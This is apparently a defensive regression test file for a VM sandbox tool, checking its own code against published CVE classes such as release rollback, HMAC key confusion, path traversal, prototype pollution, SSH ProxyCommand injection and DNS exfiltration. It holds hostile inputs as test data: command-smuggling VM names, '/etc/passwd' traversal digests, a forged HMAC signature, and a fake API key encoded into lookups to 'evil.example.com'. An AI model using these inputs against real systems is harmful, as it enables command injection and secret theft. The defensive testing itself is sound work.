/** Published weaknesses of updates, signatures, parsers and logs, tried on sbx's own. docs/design/cves.md */
import { assert, assertEquals, assertRejects, assertThrows } from "@std/assert";
import { join } from "node:path";
import { sshConfig } from "../../../cmd/sbx/vm/ssh-config.ts";
import { CreateRequest } from "../../../lib/client/api/schema.ts";
import { SbxError } from "../../../lib/base/error/mod.ts";
import { parseJson } from "../../../lib/base/json/mod.ts";
import { DnsService } from "../../../lib/network/dns/mod.ts";
import { signRecord } from "../../../lib/release/mod.ts";
import { parseToml } from "../../../lib/base/toml/mod.ts";
import { Place } from "../../api/cli_harness.ts";
import { TestGate } from "../../helper/gate.ts";
import { Publisher as AssetPublisher } from "../../helper/publisher.ts";
import { bytesOf, Client, DAY, EPOCH, hmacKey, Publisher } from "../../helper/release.ts";
import { ask, read, records, TestResolver } from "../../helper/resolver.ts";

const code = async (work: () => Promise<unknown>) => (await assertRejects(work, SbxError)).code;

Deno.test("CVE-2025-2887: an older list of releases that is signed well is not taken for a newer one", async () => {
  const publisher = await Publisher.start();
  await using client = await Client.of(publisher);
  await publisher.release("1.0.0");
  const old = publisher.snapshot();
  await publisher.release("1.1.0");
  await client.check();
  publisher.replay(old);
  assertEquals(await code(() => client.check()), "release.rollback");
  // The same records under a date of today.
  publisher.index.channels.stable.manifests.pop();
  await publisher.sign();
  assertEquals(await code(() => client.check()), "release.rollback");
});

Deno.test("CVE-2025-2888: a list that fails its checks leaves nothing behind that later checks believe", async () => {
  const publisher = await Publisher.start();
  await using client = await Client.of(publisher);
  await publisher.release("1.0.0");
  const good = publisher.snapshot();
  await client.check();
  const before = await Deno.readTextFile(client.memoryPath);
  await publisher.release("9.0.0");
  publisher.put(
    "channels.json.dsse",
    good.get([...good.keys()].find((url) => url.endsWith("dsse"))!)!.slice(0, -40),
  );
  await assertRejects(() => client.check(), SbxError);
  publisher.index.channels.stable.manifests = publisher.index.channels.stable.manifests.slice(1).map((
    record,
  ) => ({ ...record, status: "revoked" }));
  await publisher.sign(new Date(Date.now() + 400 * 86_400_000).toISOString());
  await assertRejects(() => client.check({ now: new Date() }), SbxError);
  assertEquals(await Deno.readTextFile(client.memoryPath), before);
  publisher.replay(good);
  assertEquals((await client.check({ now: new Date(EPOCH + 2 * DAY) })).record.version, "1.0.0");
});

Deno.test("CVE-2024-33663: a public key that everyone has does not verify as the secret of an HMAC", async () => {
  const publisher = await Publisher.start();
  await publisher.release("1.0.0");
  await using client = await Client.of(publisher);
  const [{ publicKey }] = publisher.signers;
  const raw = Object.values(publicKey).find((value) =>
    value instanceof Uint8Array || value instanceof CryptoKey
  );
  const bytes = raw instanceof CryptoKey
    ? new Uint8Array(await crypto.subtle.exportKey("raw", raw))
    : raw as Uint8Array;
  const forged = { ...hmacKey(), key: bytes, bytes, secret: bytes } as ReturnType<typeof hmacKey>;
  // The index: the trusted key's id, and an HMAC of its public key in place of a signature.
  const envelope = JSON.parse(new TextDecoder().decode(publisher.get("channels.json.dsse")));
  const payload = new TextDecoder().decode(Uint8Array.fromBase64(envelope.payload)).replaceAll(
    "1.0.0",
    "6.6.6",
  );
  const hmac = await crypto.subtle.importKey(
    "raw",
    new Uint8Array(bytes),
    { name: "HMAC", hash: "SHA-256" },
    false,
    ["sign"],
  );
  const type = envelope.payloadType;
  const signed = bytesOf(`DSSEv1 ${type.length} ${type} ${payload.length} ${payload}`);
  const sig = new Uint8Array(await crypto.subtle.sign("HMAC", hmac, signed)).toBase64();
  const signatures = envelope.signatures.map((entry: object) => ({ ...entry, sig, alg: "HS256" }));
  for (const each of [signatures, signatures.map(({ alg: _, ...entry }: { alg: string }) => entry), []]) {
    publisher.put(
      "channels.json.dsse",
      bytesOf(JSON.stringify({ ...envelope, payload: bytesOf(payload).toBase64(), signatures: each })),
    );
    await assertRejects(() => client.check(), SbxError);
  }
  // Its records, in an index that is signed well.
  publisher.index.channels.stable.manifests[0] = signRecord(forged, {
    ...publisher.index.channels.stable.manifests[0],
    status: "current",
  });
  const wrong = hmacKey("k1", bytes[0]);
  publisher.index.channels.stable.manifests[0] = signRecord(
    wrong,
    publisher.index.channels.stable.manifests[0],
  );
  await publisher.sign();
  await assertRejects(() => client.check(), SbxError);
  assertEquals((await client.memory.read()).followed, []);
});

Deno.test("CVE-2025-15556: a download that was exchanged on its way is not installed", async () => {
  await using publisher = await AssetPublisher.start();
  await publisher.install();
  const names = await publisher.installed();
  await publisher.publish("2026.0202.1");
  const kernel = join(publisher.dir, "x86_64/vmlinuz");
  const { size } = await Deno.stat(kernel);
  await Deno.writeTextFile(kernel, "e".repeat(size));
  assertEquals(await code(() => publisher.install()), "assets.mismatch");
  assertEquals(await publisher.installed(), names);
});

Deno.test("CVE-2024-37032: a digest that is a path names no file", async () => {
  await using publisher = await AssetPublisher.start();
  const path = join(publisher.dir, "manifest.json");
  const good = await Deno.readTextFile(path);
  for (
    const digest of [
      "../../../../../../tmp/sbx-cve-digest",
      "/etc/passwd",
      `${"a".repeat(32)}/../${"b".repeat(28)}`,
      "A".repeat(64),
      `${"a".repeat(64)}\n`,
    ]
  ) {
    await Deno.writeTextFile(path, good.replace(/"hash": "[^"]+"/, `"hash": ${JSON.stringify(digest)}`));
    assertEquals(await code(() => publisher.install()), "manifest.invalid", digest);
  }
});

Deno.test("CVE-2025-62725: names of files in a list from a server lead out of no folder", async () => {
  await using publisher = await AssetPublisher.start();
  const path = join(publisher.dir, "manifest.json");
  const good = await Deno.readTextFile(path);
  for (const name of ["../../x", "/etc/x", "..", "a/b", "a\\b", "x\u0000", ".", "x\ny"]) {
    await Deno.writeTextFile(path, good.replaceAll('"vmlinuz"', JSON.stringify(name)));
    assertEquals(await code(() => publisher.install()), "manifest.invalid", name);
  }
});

Deno.test("CVE-2025-64718: no member of a document becomes one of every object", () => {
  for (const name of ["__proto__", "constructor", "prototype"]) {
    for (const text of [`{"${name}":{"polluted":true}}`, `{"a":{"${name}":{"polluted":true}}}`]) {
      try {
        parseJson(text);
      } catch (error) {
        assert(error instanceof SyntaxError);
      }
    }
    for (
      const text of [
        `[${name}]\npolluted = true`,
        `a.${name}.polluted = true`,
        `[a."${name}"]\npolluted = true`,
      ]
    ) {
      try {
        parseToml(text, "x.toml");
      } catch (error) {
        assert(error instanceof Error);
      }
    }
    assertEquals(({} as Record<string, unknown>).polluted, undefined);
    assertEquals((Object as unknown as Record<string, unknown>).polluted, undefined);
  }
});

Deno.test("CVE-2025-52999: nesting without end is refused before a parser recurses", () => {
  for (const depth of [65, 1000, 500_000]) {
    assertThrows(() => parseJson("[".repeat(depth) + "]".repeat(depth)), SyntaxError);
    assertThrows(() => parseJson('{"a":'.repeat(depth) + "1" + "}".repeat(depth)), SyntaxError);
  }
});

Deno.test("CVE-2025-61984: no name of a VM is a command of the SSH client's configuration", () => {
  const names = [
    "$(touch x)",
    "a\nProxyCommand touch x",
    "`id`",
    "-oProxyCommand=id",
    "a;id",
    "a b",
    "%h",
    "a'b",
    "$[+]\nid",
    "\u00e9",
    "..",
    "a/b",
    "*",
  ];
  for (const name of names) assertEquals(CreateRequest.shape.name.safeParse(name).success, false, name);
  const access = { sbx: "/opt/sbx", home: "/h", identity: "/i", publicKey: "ssh-ed25519 AAAA" };
  const inserted = "\n  ProxyCommand id";
  for (const key of ["sbx", "home", "publicKey"] as const) {
    const error = assertThrows(
      () => sshConfig(["web-1"], { ...access, [key]: access[key] + inserted }),
      SbxError,
    );
    assertEquals(error.code, "usage.invalid", key);
  }
  const lines = sshConfig(["web-1"], { ...access, identity: access.identity + inserted }).split("\n");
  assertEquals(lines.filter((line) => line.startsWith("  ProxyCommand")).length, 1);
});

Deno.test("CVE-2025-58160: what a guest writes into logs and records moves no cursor when it is shown", async () => {
  await using place = await Place.make();
  for (
    const args of [["logs", "demo"], ["events", "demo"], ["logs", "demo", "--json"], [
      "events",
      "demo",
      "--json",
    ]]
  ) {
    const { code, stdout, stderr } = await place.sbx(args);
    assertEquals(code, 0, stderr);
    // deno-lint-ignore no-control-regex
    assert(!/[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(stdout + stderr), JSON.stringify(stdout));
    assert(stdout.length > 5);
  }
});

Deno.test("CVE-2025-55284: a lookup that carries a secret in a name is neither sent nor kept", async () => {
  const secret = "sk-ant-api03-" + "Tq7".repeat(30);
  const labels = secret.match(/.{1,50}/g)!.join(".");
  const resolver = await TestResolver.start(
    records({ name: "ok.example.com", type: "A", ttl: 60, data: "203.0.113.7" }),
  );
  const rules = `
[profiles.rules.only]
action = "allow"
match = 'dns.request.qname == "ok.example.com"'

[profiles.rules.no-other]
action = "block"
priority = 20
match = "has(dns.request)"
`;
  const gate = new TestGate(rules);
  const dns = new DnsService({ gate, resolvers: [resolver.endpoint], tryMs: 30_000 });
  const guest = { proto: "udp" as const, process_name: "ping" };
  for (const type of ["A", "AAAA", "TXT", "MX", "CNAME", "NS"]) {
    for (
      const name of [
        `${labels}.evil.example.com`,
        `${btoa(secret).replaceAll("=", "").slice(0, 60)}.ok.example.com.evil.net`,
      ]
    ) {
      assertEquals(read(await dns.answer(ask(name, type), guest)).data, []);
    }
  }
  const { data } = read(await dns.answer(ask("ok.example.com", "A"), guest));
  resolver.close();
  assertEquals(data, ["203.0.113.7"]);
  assertEquals(gate.entries.filter(({ decision }) => decision?.decision === "block").length, 12);
  assert(!JSON.stringify(gate.entries).includes(secret));
});
